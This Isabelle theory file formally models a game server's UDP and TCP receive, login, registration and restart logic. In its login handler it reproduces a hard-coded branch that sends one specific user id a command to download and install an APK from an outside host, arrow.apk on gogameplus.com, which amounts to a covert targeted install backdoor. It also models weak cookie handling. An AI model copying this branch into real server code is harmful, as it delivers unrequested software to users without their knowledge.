(* ===== verification/Receive.thy ===== *)
theory Receive
  imports MainServer
begin

text \<open>
  What a datagram and a message on a TCP connection do: \<open>BaseServer::udp_recive\<close> and
  \<open>tcp_recive\<close>, the login and registration jobs, and what a restarted server takes over from
  shared memory. The buffer is the receive buffer, \<open>n\<close> the number of bytes received. The
  statistics of logins and the shared log parameters, which nothing reads, are left out.
\<close>

section \<open>Answers on the stack\<close>

definition construct_base :: "layout \<Rightarrow> BaseType \<Rightarrow> bool \<Rightarrow> 'a Engine_scheme \<Rightarrow> buffer" where
  "construct_base l t ack e = write_all BaseMessage
     [(''base_type'', base_code t), (''client_process_id'', 0), (''id'', 0), (''answer_of_msg_id'', 0),
      (''ack_required'', if ack then 1 else 0)] (uninit e (struct_size l))"

definition send_to :: "endpoint \<Rightarrow> layout \<Rightarrow> buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "send_to se l b e = send_bytes se b (struct_size l) e"

definition base_type_is :: "buffer \<Rightarrow> BaseType \<Rightarrow> bool" where
  "base_type_is b t \<longleftrightarrow> field BaseMessage ''base_type'' b = base_code t"

section \<open>Pings\<close>

definition ping_response :: "buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> buffer" where
  "ping_response b e = write_all PingResponseMsg
     [(''upgrade_requrid'', 0), (''answer_of_msg_id'', field BaseMessage ''id'' b), (''id'', field BaseMessage ''id'' b),
      (''pinger_time'', field PingRequestMsg ''pinger_time'' b), (''responser_time'', total_time e)]
     (construct_base PingResponseMsg PING_RESPONSE False e)"

definition first_ping :: "int \<Rightarrow> addr \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "first_ping v u e = do {
     p \<leftarrow> port_at e u;
     if v > 10 \<and> \<not> not_first_udp_ping p
     then first_udp_ping u (put_port u (p\<lparr>not_first_udp_ping := True\<rparr>) e) else Some e }"

definition udp_ping :: "endpoint \<Rightarrow> buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "udp_ping se b e = do {
     e \<leftarrow> send_to se PingResponseMsg (ping_response b e) e;
     let uid = field BaseMessage ''user_id'' b;
     case users_with_id e uid of
       None \<Rightarrow> Some e
     | Some u \<Rightarrow> do {
         p \<leftarrow> port_at e u;
         if field BaseMessage ''cookie'' b \<noteq> cookie p then Some e
         else do {
           e \<leftarrow> udp_end_point_set se u e;
           let v = field PingRequestMsg ''version_id'' b;
           e \<leftarrow> set_app_version uid v e;
           p \<leftarrow> port_at e u;
           first_ping v u (put_port u (p\<lparr>physic_engine_version := (if v > 15 then 1 else 0)\<rparr>) e) } } }"

section \<open>Login\<close>

definition login_response :: "bool \<Rightarrow> int \<Rightarrow> 'a Engine_scheme \<Rightarrow> buffer" where
  "login_response done uid e = write_all LoginResponse
     [(''user_id'', uid), (''done'', if done then 1 else 0)] (construct_base LoginResponse LOGIN_RESPONSE True e)"

text \<open>Find or create the port of a user; a new one gets a random cookie if \<open>fresh\<close> says so.\<close>

definition port_for :: "bool \<Rightarrow> int \<Rightarrow> 'a Engine_scheme \<Rightarrow> ('a Engine_scheme \<times> addr) option" where
  "port_for fresh uid e = (case users_with_id e uid of
     Some a \<Rightarrow> Some (e, a)
   | None \<Rightarrow> do {
       let (e, a) = create_port e;
       p \<leftarrow> port_at e a;
       if fresh then (let (e, k) = get_random_long_long e in Some (put_port a (p\<lparr>cookie := k\<rparr>) e, a))
       else Some (e, a) })"

definition fill_response :: "UserData \<Rightarrow> int \<Rightarrow> buffer \<Rightarrow> buffer option" where
  "fill_response ud k r = put_chars LoginResponse ''display_name'' (ud_display_name ud)
     (write_all LoginResponse [(''user_id'', ud_id ud), (''cookie'', k)] r)"

text \<open>The link a server of this game once sent to one user.\<close>

definition install_command :: "byte list \<Rightarrow> byte list \<Rightarrow> 'a Engine_scheme \<Rightarrow> buffer option" where
  "install_command url fn e = do {
     let l = ServerDownloadInstallCommand;
     let b = write_all l [(''command_id'', 1), (''check_sum'', 10)] (heap_msg l SERVER_DOWNLOAD_INSTALL_APK e);
     b \<leftarrow> put_chars l ''command_type'' [] b;
     b \<leftarrow> put_chars l ''url'' url b;
     put_chars l ''file_name'' fn b }"

definition ascii :: "string \<Rightarrow> byte list" where
  "ascii s = map (\<lambda>c. of_nat (of_char c)) s"

definition udp_login :: "endpoint \<Rightarrow> buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "udp_login se b e = do {
     let uid = field BaseMessage ''user_id'' b;
     let ud = login (database e) uid (field_bytes LoginMSG ''password'' b);
     let r = login_response (ud \<noteq> None) uid e;
     (e, r, ses) \<leftarrow> (case ud of
        None \<Rightarrow> Some (e, r, None)
      | Some d \<Rightarrow> do {
          (e, a) \<leftarrow> port_for True uid e;
          p \<leftarrow> port_at e a;
          let e = put_port a (p\<lparr>user_data := Some uid, not_first_udp_ping := False\<rparr>) e;
          r \<leftarrow> fill_response d (cookie p) r;
          let e = users_with_id_push (ud_id d) (Some a) e;
          e \<leftarrow> udp_end_point_set se a e;
          Some (e, r, Some a) });
     let (e, r1) = rand e;
     let (e, r2) = rand e;
     let r = put_field BaseMessage ''id'' (or (to_u64 r1) (to_u64 r2)) r;
     e \<leftarrow> send_to se LoginResponse r e;
     let ruid = field BaseMessage ''user_id'' r;
     e \<leftarrow> (if ruid = 95072 then do {
             c \<leftarrow> install_command (ascii ''http://gogameplus.com:5000/downloads/arrow.apk'') (ascii ''arrow.apk'') e;
             send_new ses ServerDownloadInstallCommand c e }
           else Some e);
     case ses of None \<Rightarrow> Some e | Some a \<Rightarrow> new_login ruid a e }"

section \<open>Datagrams\<close>

definition udp_ack :: "endpoint \<Rightarrow> buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "udp_ack se b e =
     (if \<not> base_type_is b ACK \<and> field BaseMessage ''ack_required'' b \<noteq> 0
      then send_to se ACKMSG (write_all ACKMSG
             [(''user_id'', field BaseMessage ''user_id'' b), (''answer_of_msg_id'', field BaseMessage ''id'' b),
              (''id'', field BaseMessage ''id'' b)] (construct_base ACKMSG ACK False e)) e
      else Some e)"

definition login_problem :: "endpoint \<Rightarrow> buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "login_problem se b e =
     (if \<not> base_type_is b ACK
      then send_to se LoginProblem (write_all LoginProblem
             [(''id'', to_u64 (field BaseMessage ''id'' b + 1000000)), (''problem'', 2)]
             (construct_base LoginProblem LOGIN_PROBLEM True e)) e
      else Some e)"

text \<open>A cookie of -1 is replaced by that of the port registered for the user.\<close>

definition adopt_cookie :: "addr \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "adopt_cookie s e = do {
     p \<leftarrow> port_at e s;
     if cookie p = - 1 then do {
       ud \<leftarrow> data_of e p;
       s2 \<leftarrow> users_with_id e (ud_id ud);
       p2 \<leftarrow> port_at e s2;
       Some (put_port s (p\<lparr>cookie := cookie p2\<rparr>) e) }
     else Some e }"

text \<open>A message of a known user: an acknowledgement, a message seen before, or a new one.\<close>

definition udp_known :: "libm \<Rightarrow> addr \<Rightarrow> buffer \<Rightarrow> nat \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "udp_known m s b n e = do {
     p \<leftarrow> port_at e s;
     let i = field BaseMessage ''id'' b;
     if base_type_is b ACK then Some (put_port s (remove_from_out_box i p) e)
     else let k = nat (i mod 10) in
       if msg_ids p ! k = i then Some e
       else do {
         let e = put_port s (p\<lparr>msg_ids := (msg_ids p)[k := i]\<rparr>) e;
         if base_type_is b MSG then do {
           e \<leftarrow> adopt_cookie s e;
           p \<leftarrow> port_at e s;
           ud \<leftarrow> data_of e p;
           if field BaseMessage ''cookie'' b = cookie p \<and> field BaseMessage ''user_id'' b = ud_id ud
           then recive_msg m s b n e else Some e }
         else Some e } }"

definition udp_dispatch :: "libm \<Rightarrow> endpoint \<Rightarrow> buffer \<Rightarrow> nat \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "udp_dispatch m se b n e = (case users_with_id e (field BaseMessage ''user_id'' b) of
     None \<Rightarrow> login_problem se b e
   | Some s \<Rightarrow> do {
       p \<leftarrow> port_at e s;
       if cookie p \<noteq> field BaseMessage ''cookie'' b then login_problem se b e
       else do {
         e \<leftarrow> udp_end_point_set se s e;
         p \<leftarrow> port_at e s;
         let e = put_port s (p\<lparr>client_process_id := field BaseMessage ''client_process_id'' b\<rparr>) e;
         ud \<leftarrow> data_of e p;
         udp_known m s b n (zip_update_time (ud_id ud) (total_time e) e) } })"

definition udp_recive :: "libm \<Rightarrow> int \<Rightarrow> endpoint \<Rightarrow> buffer \<Rightarrow> nat \<Rightarrow> 'a MainServer_scheme
    \<Rightarrow> 'a MainServer_scheme option" where
  "udp_recive m now se b n e =
     (let e = e\<lparr>total_time := now\<rparr>
      in if n = 0 then Some e
         else if base_type_is b PINGR_EQUEST then udp_ping se b e
         else do {
           let (b, good) = check_msg b n;
           e \<leftarrow> udp_ack se b e;
           if base_type_is b LOGIN then udp_login se b e else udp_dispatch m se b n e })"

section \<open>Messages on a TCP connection\<close>

definition tcp_send :: "addr \<Rightarrow> buffer \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme" where
  "tcp_send c b e = e\<lparr>tcp_log := tcp_log e @ [(c, b)]\<rparr>"

definition tcp_login :: "addr \<Rightarrow> buffer \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "tcp_login c b e = do {
     let uid = field BaseMessage ''user_id'' b;
     let ud = login (database e) uid (field_bytes LoginMSG ''password'' b);
     let r = login_response (ud \<noteq> None) uid e;
     case ud of
       None \<Rightarrow> Some (tcp_send c r e)
     | Some d \<Rightarrow> do {
         (e, a) \<leftarrow> port_for False uid e;
         p \<leftarrow> port_at e a;
         let (e, k) = get_random_long_long e;
         let e = put_port a (p\<lparr>user_data := Some uid, tcp_connection := Some c, cookie := k\<rparr>) e;
         let e = e\<lparr>conn_port := (conn_port e)(c := Some a)\<rparr>;
         r \<leftarrow> fill_response d k r;
         let e = users_with_id_push (ud_id d) (Some a) e;
         new_login (ud_id d) a (tcp_send c r e) } }"

text \<open>The connection's port, or that of the user named in the message if the cookie fits.\<close>

definition tcp_port :: "addr \<Rightarrow> buffer \<Rightarrow> 'a MainServer_scheme \<Rightarrow> ('a MainServer_scheme \<times> ptr) option" where
  "tcp_port c b e = (case conn_port e c of
     Some s \<Rightarrow> Some (e, Some s)
   | None \<Rightarrow> (case users_with_id e (field BaseMessage ''user_id'' b) of
       None \<Rightarrow> Some (e, None)
     | Some s \<Rightarrow> do {
         p \<leftarrow> port_at e s;
         if cookie p = field BaseMessage ''cookie'' b
         then Some (put_port s (p\<lparr>tcp_connection := Some c\<rparr>) e, Some s) else Some (e, None) }))"

definition tcp_msg :: "addr \<Rightarrow> buffer \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "tcp_msg c b e = do {
     (e, so) \<leftarrow> tcp_port c b e;
     case so of
       None \<Rightarrow> Some e
     | Some s \<Rightarrow> do {
         e \<leftarrow> adopt_cookie s e;
         p \<leftarrow> port_at e s;
         case data_of e p of
           None \<Rightarrow> Some e
         | Some ud \<Rightarrow>
             if field BaseMessage ''cookie'' b = cookie p \<and> field BaseMessage ''user_id'' b = ud_id ud
             then recive_tcp_msg s b e else Some e } }"

definition tcp_ping :: "addr \<Rightarrow> buffer \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "tcp_ping c b e = do {
     e \<leftarrow> (case conn_port e c of
        None \<Rightarrow> Some e
      | Some s \<Rightarrow> do {
          p \<leftarrow> port_at e s;
          if cookie p = - 1 then do {
            e \<leftarrow> adopt_cookie s e;
            ud \<leftarrow> data_of e p;
            s2 \<leftarrow> users_with_id e (ud_id ud);
            p2 \<leftarrow> port_at e s2;
            Some (put_port s2 (p2\<lparr>physic_engine_version :=
              (if field PingRequestMsg ''version_id'' b > 15 then 1 else 0)\<rparr>) e) }
          else Some e });
     Some (tcp_send c (write_all PingResponseMsg
       [(''upgrade_requrid'', 0), (''pinger_time'', field PingRequestMsg ''pinger_time'' b),
        (''responser_time'', total_time e)] (construct_base PingResponseMsg PING_RESPONSE False e)) e) }"

definition tcp_recive :: "addr \<Rightarrow> buffer \<Rightarrow> nat \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "tcp_recive c b n e =
     (if n = 0 then Some e
      else if base_type_is b LOGIN then tcp_login c b e
      else if base_type_is b MSG then tcp_msg c b e
      else if base_type_is b PINGR_EQUEST then tcp_ping c b e
      else Some e)"

text \<open>The destructor of a connection.\<close>

definition TcpConnection_end :: "addr \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "TcpConnection_end c e = (case conn_port e c of
     None \<Rightarrow> Some e
   | Some s \<Rightarrow> do {
       p \<leftarrow> port_at e s;
       Some (put_port s (tcp_disconnect c p) (e\<lparr>conn_port := (conn_port e)(c := None)\<rparr>)) })"

section \<open>Jobs that need no request\<close>

text \<open>
  Registration over HTTP: the response's cookie is zero, as nothing sets it, and \<open>tcp\<close> is what
  the uninitialised pointer \<open>tcp_connection\<close> of the job holds.
\<close>

definition RegisterJob_do_job :: "int option \<Rightarrow> ptr \<Rightarrow> 'a Engine_scheme
    \<Rightarrow> ('a Engine_scheme \<times> RegisterResponse) option" where
  "RegisterJob_do_job inserted tcp e = do {
     let (e, k) = get_random_long_long e;
     (d, r) \<leftarrow> register_user k inserted (database e);
     let (e, a) = create_port (e\<lparr>database := d\<rparr>);
     p \<leftarrow> port_at e a;
     let p = p\<lparr>tcp_connection := tcp\<rparr>;
     if rr_done r
     then Some (users_with_id_push (rr_userId r) (Some a)
                  (put_port a (p\<lparr>cookie := 0, user_data := Some (rr_userId r)\<rparr>) e), r)
     else Some (put_port a p e, r) }"

definition LoginJob_do_job :: "addr \<Rightarrow> buffer \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "LoginJob_do_job c b e = do {
     let uid = field BaseMessage ''user_id'' b;
     (e, a) \<leftarrow> port_for False uid e;
     let ud = login (database e) uid (field_bytes LoginMSG ''password'' b);
     let r = login_response (ud \<noteq> None) uid e;
     p \<leftarrow> port_at e a;
     let e = put_port a (p\<lparr>user_data := (if ud = None then None else Some uid)\<rparr>) e;
     (e, r) \<leftarrow> (case ud of
        None \<Rightarrow> Some (e, r)
      | Some d \<Rightarrow> do {
          let (e, k) = get_random_long_long (e\<lparr>conn_port := (conn_port e)(c := Some a)\<rparr>);
          p \<leftarrow> port_at e a;
          let e = put_port a (p\<lparr>tcp_connection := Some c, cookie := k\<rparr>) e;
          r \<leftarrow> fill_response d k r;
          e \<leftarrow> new_login (ud_id d) a e;
          Some (users_with_id_push (ud_id d) (Some a) e, r) });
     p \<leftarrow> port_at e a;
     Some (port_tcp_send r p e) }"

section \<open>Restart\<close>

text \<open>
  Entries of the shared map that were used within the last hour are removed, the older ones get
  a port. The map is read before and changed after the loop.
\<close>

definition reload_port :: "sql_answers \<Rightarrow> int \<times> UserPortZip \<Rightarrow> 'a Engine_scheme \<times> int list
    \<Rightarrow> ('a Engine_scheme \<times> int list) option" where
  "reload_port q = (\<lambda>(i, upz) (e, marked).
     if last_pakage_time upz + 60 * 60 * 1000 > total_time e then Some (e, marked @ [i])
     else do {
       let (e, a) = create_port e;
       p \<leftarrow> port_at e a;
       ud \<leftarrow> get_user_data_by_id (database e) i;
       let v = z_app_version upz;
       let e = change_data (\<lambda>ud. ud\<lparr>ud_app_version := v\<rparr>) i e;
       let e = put_port a (p\<lparr>cookie := z_cookie upz, udp_end_point := udp_conection upz, user_data := Some i,
                 physic_engine_version := (if v > 15 then 1 else 0)\<rparr>) e;
       let e = users_with_id_push i (Some a) e;
       let (teams, configs) = extra_rows q i;
       d \<leftarrow> load_extra teams configs i (database e);
       Some (e\<lparr>database := d\<rparr>, marked) })"

definition base_reload_rooms :: "sql_answers \<Rightarrow> 'a Engine_scheme \<Rightarrow> 'a Engine_scheme option" where
  "base_reload_rooms q e = (case udp_memory e of
     None \<Rightarrow> Some e
   | Some mm \<Rightarrow> do {
       (e, marked) \<leftarrow> for_each (reload_port q) mm (e, []);
       Some (fold zip_remove marked e) })"

definition reload_room :: "libm \<Rightarrow> int \<times> RoomData \<Rightarrow> 'a MainServer_scheme \<times> int list
    \<Rightarrow> ('a MainServer_scheme \<times> int list) option" where
  "reload_room m = (\<lambda>(i, rd) (e, gone).
     if 120 * 1000 < total_time e - rd_starting_time rd - rd_last_update_time rd then Some (e, gone @ [i])
     else if rd_starting_time rd + 60 * 60 * 1000 < total_time e then Some (e, gone @ [i])
     else do {
       (r, e) \<leftarrow> room_create m e;
       let r = init_with_room_date rd (total_time e) r;
       let e = put_room (room_id r) r e;
       Some (if game_count e < room_id r then e\<lparr>game_count := room_id r\<rparr> else e, gone) })"

definition reload_rooms :: "libm \<Rightarrow> sql_answers \<Rightarrow> 'a MainServer_scheme \<Rightarrow> 'a MainServer_scheme option" where
  "reload_rooms m q e = do {
     e \<leftarrow> base_reload_rooms q e;
     case room_memory e of
       None \<Rightarrow> Some e
     | Some mm \<Rightarrow> do {
         (e, gone) \<leftarrow> for_each (reload_room m) mm (e\<lparr>game_count := 10\<rparr>, []);
         Some (e\<lparr>room_memory := Some (fold erase_key gone mm), game_count := game_count e + 1\<rparr>) } }"

end
